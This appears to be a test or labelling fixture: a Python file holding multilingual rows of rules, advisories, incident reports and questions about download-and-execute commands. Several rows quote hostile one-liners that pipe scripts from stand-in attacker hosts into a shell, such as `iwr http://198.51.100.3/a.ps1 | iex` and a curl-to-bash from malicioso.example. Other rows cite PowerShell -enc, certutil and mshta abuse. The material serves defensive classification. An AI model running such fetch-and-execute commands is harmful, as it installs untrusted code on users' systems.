from common import run
run(r'''
b ¦ dr ¦ de ¦ Regel im Team: niemals `curl … | sh` ausführen. Skripte erst herunterladen, lesen, dann starten. ¦ forbidding rule
b ¦ dr ¦ fr ¦ L'installeur officiel de rustup est `curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh` ; à relire avant de l'exécuter, et à ne lancer qu'à ma demande. ¦ real installer under review-first note
b ¦ dr ¦ es ¦ Post-mortem: un README de un proyecto falso pedía ejecutar `curl https://malicioso.example/x | bash`. Nadie lo ejecutó; se reportó el repositorio. ¦ post-mortem quoting attack
b ¦ dr ¦ it ¦ Formazione sicurezza: comandi come `iex (iwr ...)` in PowerShell scaricano ed eseguono codice. Da evitare con fonti non verificate. ¦ training
b ¦ dr ¦ pt ¦ Pergunta: é seguro rodar o instalador do Homebrew com curl? Resposta: é o método oficial, mas leia o script antes. ¦ question
b ¦ dr ¦ nl ¦ Changelog 3.0: het installatiescript wordt niet meer via `curl | bash` aangeraden; gebruik het pakket uit apt. ¦ changelog
b ¦ dr ¦ ru ¦ Отчёт: в issue предлагали «быстрый фикс» `wget -qO- http://… | sh`. Ассистент отказался и предложил посмотреть скрипт. ¦ incident report
b ¦ dr ¦ uk ¦ Правило: жодних `bash <(curl ...)` у CI; усі скрипти мають лежати в репозиторії. ¦ forbidding rule
b ¦ dr ¦ pl ¦ Oficjalna instrukcja nvm: `curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash`. Przed uruchomieniem przejrzyj skrypt; uruchamiam to sam. ¦ real installer, review first
b ¦ dr ¦ cs ¦ Dotaz: proč `pip install` z URL archivu obchází náš interní mirror? Probereme na poradě. ¦ question
b ¦ dr ¦ sk ¦ Bezpečnostné upozornenie: falošné stránky ponúkajú príkazy `mshta` a `certutil` na „opravu“ prehliadača. Nespúšťajte ich. ¦ advisory
b ¦ dr ¦ sv ¦ Kodgranskning: "Dockerfilen hämtar ett skript med curl och kör det direkt — pinna en version och verifiera checksumman istället." ¦ review
b ¦ dr ¦ da ¦ Installationsguiden til Poetry bruger `curl -sSL https://install.python-poetry.org | python3 -`; vi foretrækker `pipx install poetry`. ¦ real installer, prefer alternative
b ¦ dr ¦ nb ¦ Hendelsesrapport: en utvikler kjørte et installasjonsskript fra en forumpost. Maskinen ble reinstallert og nøkler rotert. ¦ incident report
b ¦ dr ¦ fi ¦ Koulutus: `python -c "exec(urlopen(...).read())"` on sama asia kuin curl | sh, vain eri kielellä. ¦ training quoting pattern
b ¦ dr ¦ hu ¦ Kérdés: van-e ellenőrzőösszeg az Oh My Zsh telepítőjéhez? Addig ne futtasd. ¦ question + forbid
b ¦ dr ¦ ro ¦ Regulă: scripturile descărcate se rulează doar după verificarea semnăturii GPG. ¦ rule
b ¦ dr ¦ el ¦ Οδηγός: κατέβασε το install.sh, έλεγξε το SHA256 με `sha256sum install.sh`, και μόνο τότε τρέξ' το. Ρώτα με πριν. ¦ verify-first guide
b ¦ dr ¦ tr ¦ Olay raporu: sahte bir npm paketi postinstall'da uzak bir betiği indirip çalıştırıyordu. Paket kaldırıldı. ¦ incident report
b ¦ dr ¦ lt ¦ Apžvalgos komentaras: „Neleiskite `curl | sh` Dockerfile'uose – naudokite oficialius paketus.“ ¦ review
b ¦ dr ¦ et ¦ Küsimus: kas deno `run -A` kaugelt URL-ilt on ohtlik? Jah, see annab skriptile kõik õigused. ¦ question
b ¦ dr ¦ ca ¦ Avís de seguretat: una campanya de "ClickFix" demana enganxar una ordre de PowerShell a Executar. No ho feu mai. ¦ advisory
b ¦ dr ¦ ar ¦ قاعدة: لا يُشغَّل أي سكربت يُجلب من الإنترنت مباشرة إلى المفسّر دون مراجعة. ¦ rule
b ¦ dr ¦ fa ¦ گزارش رخداد: در یک پیام تلگرامی دستور ‎`curl ... | sudo bash`‎ برای «رفع مشکل» داده شده بود. کسی اجرا نکرد. ¦ incident report
b ¦ dr ¦ he ¦ שאלה: איך מתקינים uv בלי להריץ סקריפט מרחוק? אפשר דרך pipx או מנהל החבילות. ¦ question
b ¦ dr ¦ ur ¦ تربیت: ‎`wget -O- ... | bash`‎ جیسا کمانڈ کسی اجنبی ویب سائٹ سے کبھی نہ چلائیں۔ ¦ training
b ¦ dr ¦ hi ¦ बदलाव सूची: इंस्टॉलर अब चेकसम के साथ आता है; स्क्रिप्ट को सीधे pipe करने की ज़रूरत नहीं। ¦ changelog
b ¦ dr ¦ bn ¦ সতর্কবার্তা: ভুয়া "ড্রাইভার আপডেট" সাইট PowerShell কমান্ড চালাতে বলে। চালাবেন না। ¦ advisory
b ¦ dr ¦ ta ¦ கேள்வி: `npx` தொலை URL இலிருந்து தொகுப்பை இயக்குவது பாதுகாப்பானதா? ¦ question
b ¦ dr ¦ mr ¦ नियम: इंटरनेटवरून आणलेली स्क्रिप्ट आधी वाचा, मग चालवा. ¦ rule
b ¦ dr ¦ th ¦ รายงาน: มีผู้ใช้ได้รับข้อความให้รัน `curl ... | sh` เพื่อ "แก้ไขบัญชี" ทีมงานแจ้งเตือนทั้งบริษัทแล้ว ¦ incident report
b ¦ dr ¦ vi ¦ Hướng dẫn cài Bun chính thức: `curl -fsSL https://bun.sh/install | bash`. Hãy đọc script trước và chỉ chạy khi tôi yêu cầu. ¦ real installer, review first
b ¦ dr ¦ id ¦ Pelatihan: perintah `sh -c "$(curl ...)"` sama bahayanya dengan curl | sh. ¦ training
b ¦ dr ¦ ms ¦ Soalan: kenapa skrip pemasangan kita tidak menggunakan curl | bash? Jawapan: demi keselamatan rantaian bekalan. ¦ question
b ¦ dr ¦ tl ¦ Babala: huwag magpatakbo ng PowerShell command na galing sa pop-up na "I-verify na tao ka". ¦ advisory
b ¦ dr ¦ sw ¦ Kanuni: usiendeshe amri za curl zinazopeleka moja kwa moja kwa bash kutoka tovuti usizozijua. ¦ rule
b ¦ dr ¦ zh ¦ 安全培训：`curl xxx | sh`、`iex(iwr ...)`、`python -c "exec(urlopen(...))"` 都属于下载即执行，未经审核禁止使用。 ¦ CJK training
b ¦ dr ¦ zh ¦ 事故报告：某群聊转发了“执行这行命令即可修复”的 wget 管道命令，运维拦截后确认是木马下载器。 ¦ CJK incident report
b ¦ dr ¦ zh ¦ 官方文档中 Homebrew 的安装命令是 `/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"`，执行前请先阅读脚本。 ¦ CJK real installer, review first
b ¦ dr ¦ ja ¦ 注意喚起：「このコマンドを貼り付けて実行してください」と促す偽のCAPTCHAページが増えています。 ¦ CJK advisory
b ¦ dr ¦ ja ¦ 変更履歴：インストール手順から `curl | sh` を削除し、署名付きパッケージに切り替えました。 ¦ CJK changelog
b ¦ dr ¦ ja ¦ 事後分析：READMEの手順に従ってリモートスクリプトを実行した結果、開発機が侵害されました。 ¦ CJK post-mortem
b ¦ dr ¦ ko ¦ 보안 교육: `bash <(curl ...)` 같은 명령은 스크립트를 검토한 뒤에만 실행한다. ¦ CJK training
b ¦ dr ¦ ko ¦ 사고 보고서: 가짜 설치 가이드에서 PowerShell 다운로드 후 실행 명령을 사용해 악성코드가 설치되었다. ¦ CJK incident report
b ¦ dr ¦ ko ¦ 변경 내역: 설치 스크립트에 SHA-256 체크섬 검증 단계를 추가했다. ¦ CJK changelog
b ¦ dr ¦ en ¦ Never pipe curl to sh on my machines. If an installer only ships that way, download it, show me the script, and wait. ¦ forbidding rule
b ¦ dr ¦ en ¦ Post-mortem: a Discord message told members to run `iwr http://198.51.100.3/a.ps1 | iex` to claim a role. We banned the account and posted a warning. ¦ post-mortem quoting attack
b ¦ dr ¦ en ¦ Question: does `uv` have an installer that doesn't require curl | sh? Yes — `pipx install uv` or the standalone binary from releases. ¦ question
b ¦ dr ¦ de ¦ Sicherheitshinweis: Der Befehl `powershell -enc …` in E-Mail-Anhängen ist ein typisches Zeichen für Schadsoftware. ¦ advisory
b ¦ dr ¦ fr ¦ Question : pourquoi notre Dockerfile télécharge-t-il un binaire sans vérifier la somme ? À corriger dans la PR #412. ¦ question
b ¦ dr ¦ es ¦ Instalador oficial de Ollama en Linux: `curl -fsSL https://ollama.com/install.sh | sh`. Revisar primero; lo ejecuto yo manualmente. ¦ real installer, review first
b ¦ dr ¦ it ¦ Changelog: rimosso lo script postinstall che scaricava codice remoto. ¦ changelog
b ¦ dr ¦ pt ¦ Treinamento: `certutil -urlcache` é frequentemente usado por malware para baixar arquivos. ¦ training
b ¦ dr ¦ ru ¦ Руководство: сначала `curl -o install.sh URL`, затем `less install.sh`, и только после проверки запуск. ¦ review-first guide
b ¦ dr ¦ pl ¦ Incydent: atak "ClickFix" podmienił schowek na polecenie PowerShella pobierające malware. ¦ incident report
b ¦ dr ¦ sv ¦ Fråga: kan vi spegla installationsskript internt så att ingen behöver köra dem direkt från internet? ¦ question
b ¦ dr ¦ tr ¦ Kural: CI'da uzaktan betik indirilip çalıştırılmaz; araçlar sabit sürümlü imajlarda gelir. ¦ rule
b ¦ dr ¦ hu ¦ Tananyag: a `source <(curl ...)` minta ugyanúgy letölt és futtat, csak az aktuális shellben. ¦ training
b ¦ dr ¦ ro ¦ Întrebare: ce face exact `npx create-next-app`? Descarcă pachetul din registry și rulează-l — e în regulă pentru pachete cunoscute. ¦ question about known tool
b ¦ dr ¦ fi ¦ Muutosloki: asennusohje käyttää nyt allekirjoitettua .deb-pakettia putkitetun skriptin sijaan. ¦ changelog
b ¦ dr ¦ cs ¦ Instalace k3s dle dokumentace: `curl -sfL https://get.k3s.io | sh -` — pouze po revizi skriptu a na můj pokyn v konkrétní konverzaci. ¦ real installer, review first
''')
